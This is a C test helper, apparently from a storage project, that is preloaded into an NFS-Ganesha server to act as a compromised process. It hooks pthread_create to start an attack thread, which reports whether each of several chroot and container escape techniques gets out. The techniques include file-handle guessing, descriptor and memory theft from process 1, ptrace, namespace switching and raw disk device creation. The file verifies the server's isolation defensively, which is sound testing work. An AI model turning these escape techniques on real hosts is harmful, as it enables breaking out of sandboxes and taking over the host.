/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What somebody does who runs code in ganesha's place and wants out of its root directory. It is preloaded (LD_PRELOAD) into the real ganesha, and
 * so it has ganesha's root, capabilities and descriptors. For tests alone: taken_over_ganesha_test.go of internal/dataserver.
 *
 * When ORDER is there it tries every way, and writes to REPORT a line for each: its name, a tab, and "reached" or why not. ORDER has the
 * address and the length of a secret in the memory of process 1, and major and minor number of the node's disk.
 */

#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define STATE "/var/lib/nfs/ganesha/"
#define ORDER STATE "attack"
#define REPORT STATE "attack.report"
#define AGAIN STATE "chroot-again"
/* OUTSIDE is in the container and not in ganesha's root, NODE in the root directory of the node's disk. */
#define OUTSIDE "run/outside-of-ganesha"
#define NODE "secret-of-the-node"
#define SUPERVISOR 1
#define MOST_FILES 4096

static FILE *report;

static void say(const char *way, bool reached, int error)
{
	fprintf(report, "%s\t%s\n", way, reached ? "reached" : error == 0 ? "nothing found" : strerror(error));
}

static bool has(int directory, const char *name)
{
	int fd = openat(directory, name, O_RDONLY | O_NONBLOCK);

	if (fd < 0)
		return false;
	close(fd);
	return true;
}

/* Each directory above, as far as ".." leads: out, if it began outside. */
static bool walk_up(int from)
{
	int at = openat(from, ".", O_RDONLY | O_DIRECTORY);

	for (int level = 0; at >= 0 && level < 64; level++) {
		int above;

		if (has(at, OUTSIDE) || has(at, NODE)) {
			close(at);
			return true;
		}
		above = openat(at, "..", O_RDONLY | O_DIRECTORY);
		close(at);
		at = above;
	}
	if (at >= 0)
		close(at);
	return false;
}

/* Whether a handle leads outside, on the file system that a descriptor is of. */
static bool reaches(int of, struct file_handle *handle, int *error)
{
	int fd = open_by_handle_at(of, handle, O_RDONLY | O_DIRECTORY);
	bool reached;

	if (fd < 0) {
		*error = errno;
		return false;
	}
	reached = has(fd, NODE) || walk_up(fd);
	close(fd);
	return reached;
}

/* The root directory of the file system that a descriptor is of: inode 2 of ext4, 128 of XFS, generation 0; or 256 of the first tree of btrfs, any generation. */
static bool by_handle(int of, int *error)
{
	static const uint32_t roots[] = { 2, 128 };
	struct {
		struct file_handle head;
		uint64_t inode, tree;
		uint32_t generation;
	} btrfs = { { 20, 0x4d }, 256, 5, 0 };
	bool reached = reaches(of, &btrfs.head, error);

	for (size_t i = 0; i < sizeof(roots) / sizeof(roots[0]); i++) {
		struct {
			struct file_handle head;
			uint32_t inode, generation;
		} root = { { 8, 1 }, roots[i], 0 };

		reached = reaches(of, &root.head, error) || reached;
	}
	return reached;
}

/* Every path that there is, two levels deep, and those of a container. */
static void by_paths(void)
{
	static const char *const known[] = { "/etc/hosts", "/dev/termination-log", "/proc/1/root", "/proc/self/root", "/", "." };
	bool reached = has(AT_FDCWD, "/" OUTSIDE), handle = false;
	int error = errno, handle_error = 0;

	say("a path", reached, error);
	reached = has(AT_FDCWD, "/proc/1/root/" OUTSIDE) || has(AT_FDCWD, "/proc/self/cwd/" OUTSIDE);
	say("/proc of another process", reached, errno);

	for (size_t i = 0; i < sizeof(known) / sizeof(known[0]); i++) {
		int fd = open(known[i], O_RDONLY | O_NONBLOCK);

		if (fd < 0)
			continue;
		handle = by_handle(fd, &handle_error) || handle;
		close(fd);
	}
	for (int level = 0; level < 2; level++) {
		static const char *const in[] = { "/", "/etc/", "/run/", "/dev/", "/var/", "/volumes/", "/proc/" };

		for (size_t i = 0; i < sizeof(in) / sizeof(in[0]); i++) {
			DIR *directory = opendir(in[i]);
			struct dirent *entry;

			while (directory != NULL && (entry = readdir(directory)) != NULL) {
				int fd = openat(dirfd(directory), entry->d_name, O_RDONLY | O_NONBLOCK);

				if (fd < 0)
					continue;
				handle = by_handle(fd, &handle_error) || handle;
				close(fd);
			}
			if (directory != NULL)
				closedir(directory);
		}
	}
	say("a handle, by a path", handle, handle_error);
}

/* Every descriptor that ganesha has. */
static void by_descriptors(void)
{
	bool up = walk_up(AT_FDCWD), handle = false;
	int error = 0, count = 0;

	handle = by_handle(AT_FDCWD, &error);
	for (int fd = 0; fd < MOST_FILES; fd++) {
		if (fd == fileno(report) || fcntl(fd, F_GETFD) < 0)
			continue;
		count++;
		up = walk_up(fd) || up;
		handle = by_handle(fd, &error) || handle;
	}
	say(".. of a descriptor", up, 0);
	say("a handle, by a descriptor", handle, error);
	fprintf(report, "descriptors\t%d\n", count);
}

/* Memory and descriptors of the supervisor, which has the same user. */
static void by_the_supervisor(uintptr_t secret, size_t length)
{
	char *copy = calloc(1, length + 1);
	struct iovec here = { copy, length }, there = { (void *)secret, length };
	bool reached = process_vm_readv(SUPERVISOR, &here, 1, &there, 1, 0) == (ssize_t)length && strcmp(copy, NODE) == 0;
	int error = errno, process;

	say("memory of the supervisor", reached, error);
	free(copy);

	reached = ptrace(PTRACE_SEIZE, SUPERVISOR, 0, 0) == 0;
	say("ptrace of the supervisor", reached, errno);
	if (reached) {
		ptrace(PTRACE_INTERRUPT, SUPERVISOR, 0, 0);
		waitpid(SUPERVISOR, NULL, __WALL);
		ptrace(PTRACE_DETACH, SUPERVISOR, 0, 0);
	}

	reached = false;
	error = 0;
	process = syscall(SYS_pidfd_open, SUPERVISOR, 0);
	for (int fd = 0; process >= 0 && fd < 256; fd++) {
		int taken = syscall(SYS_pidfd_getfd, process, fd, 0);

		if (taken < 0) {
			error = errno == EBADF ? error : errno;
			continue;
		}
		reached = walk_up(taken) || reached;
		close(taken);
	}
	say("descriptors of the supervisor", reached, error);
	if (process >= 0)
		close(process);
}

/* In a process of its own, for some of these calls are refused to one with threads, and what they change must not stay. Its exit status is 0 if
 * it got through, and an errno if not.
 */
static void in_a_child(const char *way, int (*try)(void))
{
	int status = 0;
	pid_t child = fork();

	if (child == 0)
		_exit(try());
	waitpid(child, &status, 0);
	say(way, WIFEXITED(status) && WEXITSTATUS(status) == 0, WIFEXITED(status) ? WEXITSTATUS(status) : EINTR);
}

/* A root directory below the present one is left by "..". */
static int chroot_again(void)
{
	(void)mkdir(STATE "below", 0700);
	return chroot(STATE "below") != 0 ? errno : walk_up(AT_FDCWD) ? 0 : ENOENT;
}

/* A capability that was given up comes back with exec, unless no_new_privs is set. */
static int chroot_after_exec(void)
{
	execl(AGAIN, AGAIN, NULL);
	return ENOEXEC;
}

static int mount_namespace(void)
{
	return unshare(CLONE_NEWNS) == 0 ? 0 : errno;
}

static int user_namespace(void)
{
	return unshare(CLONE_NEWUSER) == 0 ? 0 : errno;
}

static int namespaces_of_the_supervisor(void)
{
	int process = syscall(SYS_pidfd_open, SUPERVISOR, 0);

	return syscall(SYS_setns, process, CLONE_NEWNS) == 0 ? 0 : errno;
}

static void by_children(void)
{
	in_a_child("chroot again", chroot_again);
	in_a_child("chroot after exec", chroot_after_exec);
	in_a_child("mount namespace", mount_namespace);
	in_a_child("user namespace", user_namespace);
	in_a_child("namespaces of the supervisor", namespaces_of_the_supervisor);
}

/* What takes capabilities that ganesha never had. */
static void by_other_rights(unsigned int major_number, unsigned int minor_number)
{
	int fd;

	if (mknod(STATE "disk", S_IFBLK | 0600, makedev(major_number, minor_number)) != 0) {
		say("a device node of the disk", false, errno);
	} else {
		fd = open(STATE "disk", O_RDONLY);
		say("a device node of the disk", fd >= 0, errno);
	}
	say("mount of proc", mount("proc", STATE, "proc", 0, NULL) == 0, errno);
}

static void *attack(void *unused)
{
	unsigned long long secret = 0, length = 0;
	unsigned int major_number = 0, minor_number = 0;
	FILE *order;

	(void)unused;
	while ((order = fopen(ORDER, "r")) == NULL)
		usleep(20000);
	if (fscanf(order, "%llu %llu %u %u", &secret, &length, &major_number, &minor_number) != 4)
		return NULL;
	fclose(order);
	report = fopen(REPORT ".new", "w");
	if (report == NULL)
		return NULL;
	by_paths();
	by_descriptors();
	by_the_supervisor(secret, length);
	by_other_rights(major_number, minor_number);
	by_children();
	fclose(report);
	(void)rename(REPORT ".new", REPORT);
	return NULL;
}

/* Ganesha starts its first thread in its root directory; the attack goes with it. */
int pthread_create(pthread_t *thread, const pthread_attr_t *attributes, void *(*run)(void *), void *argument)
{
	static int begun;
	int (*real)(pthread_t *, const pthread_attr_t *, void *(*)(void *), void *) = dlsym(RTLD_NEXT, "pthread_create");
	pthread_t own;

	if (__sync_lock_test_and_set(&begun, 1) == 0)
		real(&own, NULL, attack, NULL);
	return real(thread, attributes, run, argument);
}
